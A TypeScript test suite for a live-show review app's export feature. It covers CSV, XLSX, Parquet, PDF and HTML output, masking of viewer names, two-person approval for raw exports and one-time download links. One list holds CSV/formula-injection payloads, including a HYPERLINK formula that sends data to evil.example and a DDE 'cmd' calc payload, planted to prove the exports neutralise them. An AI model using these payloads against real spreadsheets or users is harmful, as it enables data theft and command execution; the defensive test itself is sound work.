/** A recorded session leaves the room as a file: masked unless two people agreed, whole, with progress, and gone when it is cancelled. */
import { createHash } from 'node:crypto';
import { existsSync, readFileSync } from 'node:fs';
import { mkdir, mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { crc32, inflateRawSync } from 'node:zlib';
import { DuckDBInstance } from '@duckdb/node-api';
import Database from 'better-sqlite3';
import Papa from 'papaparse';
import readExcelFile from 'read-excel-file/node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createIds } from '#engine/adapters/ids.ts';
import { openReviewStore, type ReviewStore } from '#engine/adapters/store/reviewStore.ts';
import { createClipCutter } from '#engine/adapters/clipCutter.ts';
import { createChromiumPrinter } from '#engine/adapters/chromiumPrinter.ts';
import { createExports } from '#engine/review/createExports.ts';
import { createPageFonts } from '#engine/review/pageFonts.ts';
import { createReports } from '#engine/review/createReports.ts';
import { restoreRuntime, type ShowRuntime } from '#engine/runtime.ts';
import { EXPORT_ENDINGS, type ExportFormat, type ExportJob } from '#shared/review/actions.ts';
import { REPORT_PARTS } from '#shared/review/report.ts';
import type { Actor } from '#shared/show/events.ts';
import type { Command } from '#shared/show/commands.ts';
import { commandIdSchema } from '#shared/ids.ts';
import { instant } from '#shared/time/instant.ts';
import { createManualClock } from '#tests/fakes/manualClock.ts';
import { createMemoryShowStore } from '#tests/fakes/memoryShowStore.ts';
import { createQuietLog } from '#tests/fakes/quietLog.ts';
import { sessionId, writeShows } from '#tests/harness/recordedShow.ts';

const START = Date.UTC(2026, 10, 20, 12);
const NOW = instant(START + 30 * 86_400_000);
const SHOW = { sessionId: sessionId(1), startAt: START, minutes: 20, comments: 12_000, orders: 100, seed: 5 };
const person = (name: string): Actor => ({ kind: 'person', role: 'producer', clientId: `c-${name}`, name });

let dir: string;
let store: ReviewStore;
let runtime: ShowRuntime;
let exports: ReturnType<typeof createExports>;
let acts = 0;
/** The Chromium of this machine, as under `--serve`. */
const ofThisMachine = createChromiumPrinter({ platform: process.platform, env: process.env, isRoot: process.getuid?.() === 0 });
let printer = ofThisMachine;
let cutter = createClipCutter({ platform: process.platform, env: process.env });

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'cuedeck-export-'));
  const paths = writeShows(dir, [SHOW]);
  plantFormulas(paths.crowdPath);
  const log = createQuietLog();
  const clock = createManualClock(NOW);
  store = openReviewStore({ path: `${dir}/review.db`, ...paths, log, onDeath: (problem) => { throw problem; } });
  runtime = await restoreRuntime({ clock, ids: createIds(), log, store: createMemoryShowStore(), onFatal: (error) => { throw error; } });
  const state = () => runtime.current().state;
  exports = createExports({ clock, log, store, dir: join(dir, 'exports'), state, runtime, reports: createReports({ clock, log, store, state, words: () => null }), origin: { machine: 'studio', madeBy: 'Cuedeck 0.1.0' }, words: () => null, sessions: () => Promise.resolve([]), print: (page, pdf, signal) => printer(page, pdf, signal), cutter: { find: () => cutter.find(), cut: (...asked) => cutter.cut(...asked) }, fonts: createPageFonts(join(import.meta.dirname, '../../../../node_modules/@fontsource-variable/noto-sans-sc')) });
  runtime.onCommit('exports', exports.onCommit);
  await act({ kind: 'openSession', title: 'Now' });
}, 120_000);
afterAll(async () => {
  await exports.stop();
  await store.close();
  await runtime.stop();
  await rm(dir, { recursive: true });
});

/** What viewers type to be run by the spreadsheet of whoever opens an export. */
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1', '＋1', '－1', '＠SUM(1)', "'=1+1", 'nice;=1+1', 'nice\t=1+1', '"=1+1'];

/** Into names and words of the first comments. */
function plantFormulas(crowdPath: string): void {
  const db = new Database(crowdPath);
  const rows = db.prepare("SELECT rowid FROM audience_rows WHERE kind = 'comment' ORDER BY rowid LIMIT ?").pluck().all(FORMULAS.length);
  for (const [index, row] of rows.entries()) db.prepare('UPDATE audience_rows SET text = ?, viewer_name = ? WHERE rowid = ?').run(FORMULAS[index], FORMULAS[index], row);
  db.close();
}

const act = (command: Command, actor = person('Li')) => runtime.execute(command, actor, commandIdSchema.parse(`act-${(acts += 1)}`));
const newest = (): ExportJob => { const job = runtime.current().state.review.exports.at(-1); if (job === undefined) throw new Error('no export'); return job; };
async function over(): Promise<ExportJob> {
  for (;;) {
    const job = newest();
    if (job.situation.kind !== 'running') return job;
    await new Promise((done) => { setTimeout(done, 5); });
  }
}
const analyst = (name: string) => ({ name, clientId: `window of ${name}`, mayTakeRaw: false });
const wish = (format: ExportFormat, raw = false): Command => ({ kind: 'exportSession', sessionId: SHOW.sessionId, format, version: 'live', language: 'zh', raw, reason: raw ? 'tax audit' : '' });
async function written(format: ExportFormat): Promise<{ readonly job: ExportJob; readonly path: string; readonly bytes: Buffer }> {
  await act(wish(format));
  const job = await over();
  const path = join(dir, 'exports', `${job.id}.${EXPORT_ENDINGS[format]}`);
  return { job, path, bytes: readFileSync(path) };
}

/** Unpacks an archive the way any program does: by its directory at the end, every check sum compared. */
async function unzip(path: string, into: string): Promise<readonly string[]> {
  await mkdir(into, { recursive: true });
  const bytes = readFileSync(path);
  const end = bytes.length - 22;
  const names: string[] = [];
  for (let at = bytes.readUInt32LE(end + 16); at < end && bytes.readUInt32LE(at) === 0x02014b50;) {
    const [crc, packed, nameLength, offset] = [bytes.readUInt32LE(at + 16), bytes.readUInt32LE(at + 20), bytes.readUInt16LE(at + 28), bytes.readUInt32LE(at + 42)];
    const name = bytes.toString('utf8', at + 46, at + 46 + nameLength);
    const from = offset + 30 + bytes.readUInt16LE(offset + 26) + bytes.readUInt16LE(offset + 28);
    const content = inflateRawSync(bytes.subarray(from, from + packed));
    expect(crc32(content)).toBe(crc);
    await mkdir(dirname(join(into, name)), { recursive: true });
    await writeFile(join(into, name), content);
    names.push(name);
    at += 46 + nameLength;
  }
  return names;
}

describe('exports', () => {
  it('CSV: every row of the session, masked; the log holds its hash', async () => {
    const { job, bytes } = await written('csv');
    const lines = bytes.toString('utf8').trimEnd().split('\r\n');
    expect(job.situation).toMatchObject({ kind: 'done', rows: lines.length - 1, bytes: bytes.length, sha256: createHash('sha256').update(bytes).digest('hex') });
    expect(lines.filter((line) => line.includes(',comment,'))).toHaveLength(12_000);
    expect(bytes.toString('utf8')).toContain('观***');
    expect(bytes.toString('utf8')).not.toMatch(/观众\d|,v\d+,|o5-/u);
  });

  it('formulas in names and comments stay text in CSV and XLSX, raw or masked, whatever sign they begin with and whatever parts the cells', async () => {
    const RUNS = /^[=+\-@\t\r\n＝＋－＠]/u;
    const { bytes, path } = await written('csv');
    const text = bytes.toString('utf8');
    for (const delimiter of [',', ';', '\t']) {
      const cells = Papa.parse<string[]>(text.replace(/^\uFEFF/u, ''), { delimiter }).data.flat();
      expect([delimiter, cells.filter((cell) => RUNS.test(cell) && !/^-?\d+$/u.test(cell))]).toEqual([delimiter, []]);
    }
    expect(text).toContain('cmd|');
    expect(path.endsWith('.csv')).toBe(true);
    const book = await written('xlsx');
    const into = join(dir, 'formulas');
    const sheets = (await unzip(book.path, into)).filter((name) => name.includes('sheet'));
    for (const name of sheets) expect([name, /<f[ >]|t="str"|<hyperlink/u.test(readFileSync(join(into, name), 'utf8'))]).toEqual([name, false]);
    expect(sheets.some((name) => readFileSync(join(into, name), 'utf8').includes('cmd|'))).toBe(true);
  });

  it('JSONL: the report first, then every row; no costs in it', async () => {
    const { bytes } = await written('jsonl');
    const [head = '', ...rows] = bytes.toString('utf8').trimEnd().split('\n');
    const { report } = JSON.parse(head) as { report: { cover: { title: string }; rest: { money: { direct: { costAdMinor: unknown } } } } };
    expect([report.cover.title, report.rest.money.direct.costAdMinor]).toEqual(['Show 5', null]);
    expect(rows.map((row) => JSON.parse(row) as { kind: string }).filter(({ kind }) => kind === 'order').length).toBeGreaterThan(180);
  });

  it('XLSX: read back, a sheet for every table of the report and one for the audience', async () => {
    const { path } = await written('xlsx');
    const sheets = await readExcelFile(path);
    const named = new Map(sheets.map(({ sheet, data }) => [sheet, data]));
    expect([...named.keys()]).toEqual(expect.arrayContaining(['cover', 'goals rows', 'timeline minutes', 'segments rows', 'products rows', 'audience']));
    expect(named.get('segments rows')).toHaveLength(7);
    expect(named.get('audience')?.filter((row) => row[3] === 'comment')).toHaveLength(12_000);
    expect(named.get('products rows')?.[0]).toEqual(expect.arrayContaining(['total.paidMinor', 'name.zh']));
  });

  it('HTML: all 17 parts in one file that asks nobody for anything and runs nothing', async () => {
    const { bytes } = await written('html');
    const text = bytes.toString('utf8');
    expect([...text.matchAll(/<section id="(\w+)"/gu)].map(([, id]) => id)).toEqual([...REPORT_PARTS]);
    expect(text).toContain("default-src 'none'");
    expect(text).not.toMatch(/<script|<link|<img|<iframe|src=|url\(|@import|https?:/iu);
    expect(text).not.toMatch(/观众\d/u);
  });

  it('PDF: printed from that page by the Chromium of this machine; the page is gone again', async () => {
    const { job, bytes } = await written('pdf');
    expect(job.situation).toMatchObject({ kind: 'done', bytes: bytes.length });
    expect(bytes.subarray(0, 5).toString('latin1')).toBe('%PDF-');
    // A machine without a Chinese font prints Chinese all the same: the page carried its own.
    expect(bytes.toString('latin1')).toMatch(/NotoSansSC/u);
    expect((bytes.toString('latin1').match(/\/Type\s*\/Page\b/gu) ?? []).length).toBeGreaterThan(2);
    expect((await readdir(join(dir, 'exports'))).filter((name) => name.startsWith(job.id))).toEqual([`${job.id}.pdf`]);
  }, 120_000);

  it('PDF: where nothing can print it is refused with a reason', async () => {
    printer = () => Promise.resolve('noPrinter');
    await act(wish('pdf'));
    expect((await over()).situation).toMatchObject({ kind: 'failed', problem: 'noPdfHere' });
    printer = ofThisMachine;
  });

  it('Parquet: read back by DuckDB, every comment and order, masked, times as times', async () => {
    const { path } = await written('parquet');
    const unpacked = await unzip(path, join(dir, 'parquet'));
    expect(unpacked.toSorted()).toEqual(['comments.parquet', 'events.parquet', 'log.parquet', 'minutes.parquet', 'orders.parquet', 'segments.parquet']);
    const duck = await (await DuckDBInstance.create(':memory:')).connect();
    const one = async (sql: string): Promise<readonly unknown[]> => (await duck.runAndReadAll(sql.replaceAll('@', join(dir, 'parquet')))).getRowsJson()[0] ?? [];
    const crowd = new Database(join(dir, 'crowd.db'), { readonly: true });
    const plain = (sql: string): unknown[] => (crowd.prepare(sql).raw().get() as unknown[]).map(String);
    expect((await one("SELECT count(*), count(DISTINCT viewer_key), min(epoch_ms(received_at)), max(epoch_ms(received_at)) FROM '@/comments.parquet'")).map(String))
      .toEqual(plain("SELECT count(*), count(DISTINCT viewer_key), min(received_at), max(received_at) FROM audience_rows WHERE kind = 'comment'"));
    expect((await one("SELECT count(*), sum(amount_minor), count(DISTINCT order_key) FROM '@/orders.parquet' WHERE change = 'paid'")).map(String))
      .toEqual(plain("SELECT count(*), sum(payload ->> '$.amountMinor'), count(DISTINCT payload ->> '$.orderId') FROM audience_rows WHERE kind = 'order' AND payload ->> '$.change' = 'paid'"));
    expect((await one("SELECT count(*) FROM '@/events.parquet'")).map(String)).toEqual(plain("SELECT count(*) FROM audience_rows WHERE kind NOT IN ('comment', 'order')"));
    expect(await one("SELECT bool_and(viewer LIKE '_***'), count(viewer_id) FROM '@/comments.parquet'")).toEqual([true, '0']);
    expect((await one("SELECT count(*) FROM '@/segments.parquet'")).map(String)).toEqual(['6']);
    crowd.close();
    duck.closeSync();
  }, 60_000);

  it('every DuckDB statement of docs/outgrowing.md runs over exported files and finds something', async () => {
    const { path } = await written('parquet');
    for (const evening of ['one', 'two']) await unzip(path, join(dir, 'lake', evening));
    const statements = [...readFileSync(join(import.meta.dirname, '../../../../docs/outgrowing.md'), 'utf8').matchAll(/```sql\n(.*?)```/gsu)].map(([, sql = '']) => sql.replaceAll('{lake}', join(dir, 'lake')));
    expect(statements.length).toBeGreaterThan(3);
    const duck = await (await DuckDBInstance.create(':memory:')).connect();
    for (const sql of statements) expect((await duck.runAndReadAll(sql)).getRowsJson().length, sql).toBeGreaterThan(0);
    expect((await duck.runAndReadAll(statements[0] ?? '')).getRowsJson().map(([session]) => session)).toEqual(['one', 'two']);
    duck.closeSync();
  }, 60_000);

  it('chapters and edit list: of every recorded file, times counted in it', async () => {
    const { job, path } = await written('markers');
    const names = await unzip(path, join(dir, 'chapters'));
    expect(names.toSorted()).toEqual(['markers.csv', 'show-chapters.txt', 'show.edl', 'show.ffmetadata']);
    expect(readFileSync(join(dir, 'chapters', 'show-chapters.txt'), 'utf8')).toMatch(/^0:00 /u);
    expect(readFileSync(join(dir, 'chapters', 'show.edl'), 'utf8')).toContain('TITLE: show.mkv');
    expect(readFileSync(join(dir, 'chapters', 'markers.csv'), 'utf8').trimEnd().split('\r\n')).toHaveLength((job.situation.kind === 'done' ? job.situation.rows : 0) + 1);
  });

  it('clips: without ffmpeg, or without the recording on this machine, it says so', async () => {
    const found = cutter;
    cutter = createClipCutter({ platform: process.platform, env: { PATH: '/nonexistent' } });
    await act(wish('clips'));
    expect((await over()).situation).toMatchObject({ kind: 'failed', problem: 'noFfmpegHere' });
    cutter = found;
    await act(wish('clips'));
    expect((await over()).situation).toMatchObject({ kind: 'failed', problem: 'noRecordingHere' });
  });

  it('raw waits for another person, and then holds names as they came', async () => {
    await act(wish('csv', true));
    const { id, situation } = newest();
    expect(situation.kind).toBe('waiting');
    expect(existsSync(join(dir, 'exports', `${id}.csv`))).toBe(false);
    expect(await act({ kind: 'agreeExport', exportId: id })).toMatchObject({ ok: false, refusal: { key: 'exportNeedsOther' } });
    await act({ kind: 'agreeExport', exportId: id }, person('Zhao'));
    expect((await over()).situation).toMatchObject({ kind: 'done', approvedBy: 'Zhao' });
    expect(readFileSync(join(dir, 'exports', `${id}.csv`), 'utf8')).toMatch(/观众\d/u);
    // It was let go to whoever asked: nobody else who would have to ask gets it by its number.
    const { by, clientId } = newest();
    expect(await exports.exportLink(id, analyst('Wu'))).toMatchObject({ ok: false, failure: { key: 'roleMayNot' } });
    expect(await exports.exportLink(id, { ...analyst('Wu'), mayTakeRaw: true })).toMatchObject({ ok: true });
    expect(await exports.exportLink(id, { name: by, clientId, mayTakeRaw: false })).toMatchObject({ ok: true });
  });

  it('a cancelled one leaves no file', async () => {
    await act(wish('xlsx'));
    const { id } = newest();
    await act({ kind: 'cancelExport', exportId: id });
    expect(newest().situation.kind).toBe('cancelled');
    // The next one waits its turn: when it is there, the cancelled one has ended.
    await written('jsonl');
    expect((await readdir(join(dir, 'exports'))).filter((name) => name.startsWith(id))).toEqual([]);
  });

  it('a link is a ticket for one file, and none is given for what is not there', async () => {
    const { job, bytes } = await written('csv');
    const link = await exports.exportLink(job.id, analyst('Wu'));
    expect(link).toMatchObject({ ok: true, value: { name: 'Show 5 live.csv' } });
    const server = createServer((request, response) => { void exports.serve(response, (request.url ?? '').slice('/exports/'.length)).then((sent) => { if (!sent) response.writeHead(404).end(); }); });
    await new Promise<void>((done) => { server.listen(0, '127.0.0.1', done); });
    const { port } = server.address() as AddressInfo;
    const url = `http://127.0.0.1:${port}${link.ok ? link.value.path : ''}`;
    const got = await fetch(url);
    expect(Buffer.from(await got.arrayBuffer()).equals(bytes)).toBe(true);
    expect((await fetch(url)).status).toBe(404);
    server.close();
    expect(await exports.exportLink('export-0', analyst('Wu'))).toMatchObject({ ok: false, failure: { key: 'unknownExport' } });
  });
});
